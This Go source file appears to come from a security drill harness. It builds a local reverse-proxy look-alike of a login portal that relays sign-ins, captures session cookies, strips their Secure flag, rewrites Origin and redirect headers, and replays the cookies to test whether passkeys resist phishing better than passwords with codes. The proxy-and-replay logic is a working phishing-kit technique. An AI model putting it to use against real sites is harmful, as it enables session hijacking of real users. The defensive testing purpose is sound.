package web

import (
	"context"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"

	"countersign/internal/drill"
)

// lookAlike is a page of the attacker's that passes everything on to
// Countersign and keeps what it hears: what phishing kits are. Its victim uses
// a passkey; the control's types a password and a code.
func (s portal) lookAlike(ctx context.Context, p *drill.Play, c *drill.Canary) ([]drill.Try, error) {
	kit, err := newKit(s.server)
	if err != nil {
		return nil, err
	}
	defer kit.close()
	victim := honest(p, s.server)
	victim.server = kit.url
	if p.Unguarded {
		// Typed answers can be passed on by whoever hears them.
		if err := victim.typed(ctx, c.Name, c.Password, c.Code()); err != nil {
			return nil, err
		}
		return []drill.Try{{Name: "the cookie of a sign-in with password and code", Open: s.steal(ctx, p, kit)}}, nil
	}
	var tries []drill.Try
	if err := victim.get(ctx, kit.url+"/sign-in"); err != nil {
		return nil, err
	}
	err = victim.passkey(ctx, c.Key)
	tries = append(tries, drill.Try{Name: "an honest browser's passkey", Open: err == nil && s.steal(ctx, p, kit), Detail: errText(err)})
	liar := honest(p, s.server)
	liar.server = kit.url
	if err := liar.get(ctx, kit.url+"/sign-in"); err != nil {
		return nil, err
	}
	careless := c.Key.Clone()
	careless.Lie.Disobey = true // a browser that signs for any page
	err = liar.passkey(ctx, careless)
	tries = append(tries, drill.Try{Name: "a careless browser's passkey, signed for the look-alike's own name", Open: s.steal(ctx, p, kit), Detail: errText(err)})
	return append(tries, drill.Try{Name: "whatever else was heard", Open: s.steal(ctx, p, kit)}), nil
}

// steal uses every cookie that the kit heard.
func (s portal) steal(ctx context.Context, p *drill.Play, k *kit) bool {
	for _, heard := range k.heard() {
		b := attacker(p, s.server)
		u, err := url.Parse(s.server)
		if err != nil {
			return false
		}
		b.client.Jar.SetCookies(u, []*http.Cookie{{Name: heard.Name, Value: heard.Value, Path: "/", Secure: u.Scheme == "https"}})
		if b.inside(ctx) {
			return true
		}
	}
	return false
}

// kit is the look-alike.
type kit struct {
	url string
	l   net.Listener

	mu      sync.Mutex
	cookies []*http.Cookie
}

func newKit(server string) (*kit, error) {
	to, err := url.Parse(server)
	if err != nil {
		return nil, err
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	k := &kit{l: l, url: "http://" + l.Addr().String()}
	proxy := &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(to)
			r.Out.Host = to.Host
			if r.Out.Header.Get("Origin") != "" {
				r.Out.Header.Set("Origin", server)
			}
			r.Out.Header.Del("Referer")
		},
		ModifyResponse: k.listen,
	}
	go http.Serve(l, proxy) //nolint:errcheck // it ends with the listener
	return k, nil
}

// listen keeps the cookies and makes the pages work under the kit's own name.
func (k *kit) listen(r *http.Response) error {
	k.mu.Lock()
	k.cookies = append(k.cookies, r.Cookies()...)
	k.mu.Unlock()
	for i, c := range r.Header["Set-Cookie"] {
		r.Header["Set-Cookie"][i] = strings.ReplaceAll(c, "; Secure", "")
	}
	if u, err := url.Parse(r.Header.Get("Location")); err == nil && u.IsAbs() {
		r.Header.Set("Location", k.url+u.RequestURI())
	}
	return nil
}

func (k *kit) heard() []*http.Cookie {
	k.mu.Lock()
	defer k.mu.Unlock()
	return append([]*http.Cookie{}, k.cookies...)
}

func (k *kit) close() { k.l.Close() }
